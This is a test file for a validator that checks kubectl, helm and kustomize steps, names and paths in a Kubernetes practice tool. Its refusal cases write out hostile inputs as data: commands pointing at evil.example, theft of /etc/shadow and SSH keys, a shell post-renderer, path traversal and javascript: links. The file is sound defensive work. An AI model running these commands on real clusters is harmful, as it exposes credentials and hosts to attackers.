import { describe, expect, it } from 'vitest';
import { answerPathProblem, assetPathProblem, assetRefs, docsUrlProblem, helmRelease, helmStepProblem, kubectlStepProblem, kustomizeStepProblem, namespaceProblem, objectRefProblem } from './step-policy.js';

describe('kubectl step policy', () => {
  it.each([
    [['config', 'set', 'clusters.kind-kubedrill.server', 'https://evil.example:6443'], /may not run "kubectl config"/],
    [['-shttps://evil.example:6443', 'get', 'pods'], /may not use -s/],
    [['get', 'pods', '-As', 'https://evil.example:6443'], /combine one-letter flags/],
    [['get', 'pods', '--server=https://evil.example:6443'], /may not set --server/],
    [['--context=prod', 'delete', 'ns', 'x'], /may not set --context/],
    [['get', 'pods', '--kubeconfig', '/root/.kube/config'], /may not set --kubeconfig/],
    [['version', '--client', '--profile=cpu', '--profile-output=/tmp/x'], /may not run "kubectl version"/],
    [['get', 'pods', '--profile=cpu', '--profile-output=/tmp/x'], /may not set --profile/],
    [['cp', 'default/web:/etc/shadow', '/host/path'], /may not run "kubectl cp"/],
    [['create', 'secret', 'generic', 'loot', '--from-file=/root/.ssh/id_rsa'], /only from the task's answers directory/],
    [['create', 'secret', 'generic', 'loot', '--from-file=key={{answers}}/../../x'], /only from the task's answers directory/],
    [['apply', '-f', '/etc/kubernetes/admin.conf'], /may not use -f/],
    [['apply', '--filename=/etc/passwd'], /may not set --filename/],
    [['proxy', '--address=0.0.0.0', '--accept-hosts=.*'], /may not run "kubectl proxy"/],
    [['get', 'pods', '--username=admin'], /may not set --username/],
    [['get', 'pods', '--insecure-skip-tls-verify'], /may not set --insecure-skip-tls-verify/],
    [['get', 'pods', '-o', 'go-template-file=/etc/passwd'], /template file/],
    [['get', '--raw=/api/v1/namespaces/kube-system'], /may not set --raw/],
    [['-n'], /starts with its verb/],
    [[], /starts with its verb/],
  ])('given %j, when checked, then it is refused', (argv, message) => {
    expect(kubectlStepProblem(argv)?.message).toMatch(message);
  });

  it.each([
    [['-n', 'web', 'label', 'pod', 'api', 'proxy-access=true']],
    [['drain', '{{nodes.worker1}}', '--ignore-daemonsets', '--delete-emptydir-data', '--force', '--timeout=180s']],
    [['exec', 'web', '--', 'du', '-s', '/']],
    [['-n', 'expose', 'expose', 'deployment', 'nginx', '--name=nginx-internal', '--port=80', '--target-port=http']],
    [['-nweb', 'patch', 'service', 'web', '--type=json', '-p', '[{"op":"replace","path":"/spec/ports/0/targetPort","value":80}]']],
    [['-n', 'web-tls', 'create', 'secret', 'tls', 'x', '--cert={{answers}}/tls.crt', '--key={{answers}}/tls.key']],
    [['-n', 'batch', 'create', 'cronjob', 'r', '--image=busybox', '--schedule=*/1 * * * *', '--', 'sh', '-c', 'date; sleep 30']],
    [['--namespace=db', 'get', 'pods', '-o', 'jsonpath={.items[*].metadata.name}']],
  ])('given %j, when checked, then it is allowed', (argv) => {
    expect(kubectlStepProblem(argv)).toBeUndefined();
  });

  it('given placeholders already expanded, when an answers path is read, then the real answers directory is the allowed one', () => {
    expect(kubectlStepProblem(['create', 'secret', 'tls', 'x', '--cert=/data/answers/t/tls.crt'], '/data/answers/t')).toBeUndefined();
    expect(kubectlStepProblem(['create', 'secret', 'tls', 'x', '--cert=/etc/ssl/key.pem'], '/data/answers/t')?.message).toMatch(/answers directory/);
  });
});

describe('names, paths and links', () => {
  it('given Kubernetes names, when checked, then they follow the real rules; placeholders stand for valid names', () => {
    expect(objectRefProblem('deployment/web')).toBeUndefined();
    expect(objectRefProblem('node/{{nodes.worker1}}')).toBeUndefined();
    expect(objectRefProblem('crd/customobjects.custom.com')).toBeUndefined();
    expect(objectRefProblem('--raw=/api/v1/namespaces/kube-system')).toMatch(/not <kind>\/<name>/);
    expect(objectRefProblem('--kubeconfig=/root/.kube/config')).toMatch(/not <kind>\/<name>/);
    expect(objectRefProblem('not-a-ref')).toMatch(/not <kind>\/<name>/);
    expect(objectRefProblem('pod/../../etc')).toMatch(/not an object name/);
    expect(namespaceProblem('web')).toBeUndefined();
    expect(namespaceProblem('../../../../tmp')).toMatch(/not a namespace name/);
    expect(namespaceProblem('Web')).toMatch(/not a namespace name/);
  });

  it('given answer paths and docs links, when checked, then only relative paths inside and https links pass', () => {
    expect(answerPathProblem('sub/out.txt')).toBeUndefined();
    expect(answerPathProblem('..notes.txt')).toBeUndefined();
    expect(answerPathProblem('../../../etc/cron.d/evil')).toMatch(/may not contain/);
    expect(answerPathProblem('/etc/passwd')).toMatch(/must be relative/);
    expect(docsUrlProblem('https://kubernetes.io/docs/')).toBeUndefined();
    expect(docsUrlProblem('javascript:alert(1)')).toMatch(/https/);
    expect(docsUrlProblem('file:///etc/passwd')).toMatch(/https/);
  });
});

describe('helm, kustomize and asset policy', () => {
  it.each([
    [['repo', 'add', 'evil', 'https://evil.example'], /may not run "helm repo"/],
    [['plugin', 'install', 'https://evil.example/p'], /may not run "helm plugin"/],
    [['install', 'web', '{{asset:charts/web}}', '--kubeconfig', '/root/.kube/config'], /may not set --kubeconfig/],
    [['install', 'web', '{{asset:charts/web}}', '--kube-context=prod'], /may not set --kube-context/],
    [['install', 'web', '{{asset:charts/web}}', '--kube-apiserver', 'https://evil.example'], /may not set --kube-apiserver/],
    [['install', 'web', '{{asset:charts/web}}', '--post-renderer', '/bin/sh'], /may not set --post-renderer/],
    [['install', 'web', '{{asset:charts/web}}', '--generate-name'], /may not set --generate-name/],
    [['install', 'web', 'bitnami/nginx'], /repository chart/],
    [['install', 'web', 'oci://registry.example/web'], /repository chart/],
    [['install', 'web', '/home/me/chart'], /names a path/],
    [['install', 'web', '../chart'], /names a path/],
    [['install', 'web', '{{asset:charts/web}}', '-f', '/etc/passwd'], /only from the pack's assets/],
    [['install', 'web', '{{asset:charts/web}}', '--values=~/secrets.yaml'], /only from the pack's assets/],
    [['install', 'web', '{{asset:charts/web}}', '--set-file', 'key=/root/.ssh/id_rsa'], /only from the pack's assets/],
    [['install', 'web', '{{asset:charts/web}}', '-sfoo'], /may not use -s/],
    [['install', 'web', 'x{{asset:charts/web}}'], /by the asset alone/],
    [[], /starts with its command/],
  ])('given helm %j, when checked, then it is refused', (argv, message) => {
    expect(helmStepProblem(argv)?.message).toMatch(message);
  });

  it.each([
    [['upgrade', '--install', 'web', '{{asset:charts/web}}', '-n', 'shop', '--create-namespace']],
    [['-n', 'shop', 'upgrade', 'web', '{{asset:charts/web}}', '--set', 'image=registry.example/web:1.0', '-f', '{{asset:values.yaml}}']],
    [['install', 'web', '{{asset:charts/web}}', '--set-file=config={{asset:conf/app.ini}}', '--wait', '--timeout', '2m']],
    [['uninstall', 'web', '-n', 'shop']],
    [['list', '-A', '-o', 'json']],
  ])('given helm %j, when checked, then it is allowed', (argv) => {
    expect(helmStepProblem(argv)).toBeUndefined();
  });

  it('given a refused helm argument, when checked, then the index names it (FILE:LINE:COL points at it)', () => {
    expect(helmStepProblem(['install', 'web', '{{asset:charts/web}}', '-f', '/etc/passwd'])?.index).toBe(4);
    expect(helmStepProblem(['install', 'web', '{{asset:charts/web}}', '--kube-context=prod'])?.index).toBe(3);
  });

  it('given helm argv, when its release is read, then name, namespace and --create-namespace come out past flag values', () => {
    expect(helmRelease(['upgrade', '--install', '--set', 'a=b', 'web', '{{asset:charts/web}}', '-n', 'shop', '--create-namespace'])).toEqual({ verb: 'upgrade', release: 'web', namespace: 'shop', createsNamespace: true });
    expect(helmRelease(['-nshop', 'install', 'api', '{{asset:charts/api}}', '--wait'])).toEqual({ verb: 'install', release: 'api', namespace: 'shop', createsNamespace: false });
  });

  it('given kustomize argv, when checked, then only build of one asset directory passes', () => {
    expect(kustomizeStepProblem(['build', '{{asset:kustomize/dev}}'])).toBeUndefined();
    expect(kustomizeStepProblem(['build', '{{asset:kustomize/dev}}', '--enable-helm'])?.message).toMatch(/no flags/);
    expect(kustomizeStepProblem(['build', '/etc'])?.message).toMatch(/asset/);
    expect(kustomizeStepProblem(['edit', 'set', 'image'])?.message).toMatch(/\[build/);
  });

  it('given asset paths, when checked, then they stay inside assets/', () => {
    expect(assetPathProblem('charts/web')).toBeUndefined();
    expect(assetPathProblem('../pack.yaml')).toMatch(/may not contain "\.\."/);
    expect(assetPathProblem('charts/../../x')).toMatch(/may not contain "\.\."/);
    expect(assetPathProblem('/etc/passwd')).toMatch(/must be relative/);
    expect(assetPathProblem('')).toMatch(/empty/);
    expect(assetRefs('--set-file=k={{asset:conf/a.ini}}')).toEqual(['conf/a.ini']);
  });
});
